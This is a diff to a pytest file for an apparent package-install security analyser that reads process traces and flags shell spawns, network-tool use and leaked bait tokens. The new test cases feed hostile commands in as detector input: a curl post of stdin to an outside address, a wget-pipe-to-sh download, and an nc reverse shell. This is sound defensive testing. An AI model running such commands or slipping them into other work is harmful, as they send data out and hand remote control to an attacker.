@@ -267,13 +267,46 @@ def test_findings_name_the_process_and_dedupe() -> None:
     analyser.feed("install", PRELUDE[0])
     analyser.feed("install", "100 vfork( <unfinished ...>")
     # the vforked child execs before its parent's vfork returns
-    analyser.feed("install", execve("/bin/sh", "sh", "-c", "curl x", pid=101))
+    analyser.feed("install", execve("/bin/sh", "sh", "-c", "./fetch x", pid=101))
     analyser.feed("install", "100 <... vfork resumed>) = 101")
     found = analyser.feed("install", execve("/usr/bin/curl", "curl", "x", pid=101))
     found += analyser.feed("install", execve("/usr/bin/curl", "curl", "y", pid=101))
     assert [(f.rule, f.process) for f in found] == [("proc.network_tool", "sh")]
     shell = next(f for f in analyser.findings if f.rule == "proc.shell")
     assert (shell.process, shell.pid, shell.target) == ("build-backend", 101, "sh")
+
+
+@pytest.mark.parametrize(
+    ("script", "tools"),
+    [
+        ("curl -s -d @- https://203.0.113.7/c?t=x", ["curl"]),
+        ("cd /tmp && FOO=1 wget -q http://x/y | sh; echo done", ["wget"]),
+        ("exec nc -e /bin/sh 203.0.113.7 4444", ["nc"]),
+        ("x=$(curl http://x/); echo $x", ["curl"]),
+        ("echo curl wget host", []),
+        ("ls -l", []),
+    ],
+)
+def test_shell_script_naming_a_network_tool(script: str, tools: list[str]) -> None:
+    """sh -c naming curl/wget/nc in command position is found even if the tool is missing."""
+    analyser = Analyser(CTX)
+    analyser.feed("import", execve(f"{V}/bin/python", "python", "-c", RUNNER_IMPORT_CODE, "m"))
+    line = execve("/usr/bin/sh", "sh", "-c", script)
+    found = [f for f in analyser.feed("import", line) if f.rule == "proc.network_tool"]
+    assert [f.target for f in found] == tools
+    assert all(f.process == "import m" and f.severity == "high" for f in found)
+
+
+def test_token_in_a_vforked_childs_exec_names_the_parent() -> None:
+    """The bait token in a child's argv is blamed on the program that started it."""
+    analyser = Analyser(CTX)
+    analyser.feed("import", execve(f"{V}/bin/python", "python", "-c", RUNNER_IMPORT_CODE, "m"))
+    analyser.feed("import", "100 vfork( <unfinished ...>")
+    missing = "-1 ENOENT (No such file or directory)"
+    line = execve("/usr/bin/sh", "sh", "-c", f"echo {TOKEN}", pid=101, result=missing)
+    found = analyser.feed("import", line)
+    token = next(f for f in found if f.rule == "cred.token")
+    assert (token.process, token.pid) == ("import m", 101)
 
 
 def test_runner_facts_become_findings() -> None:
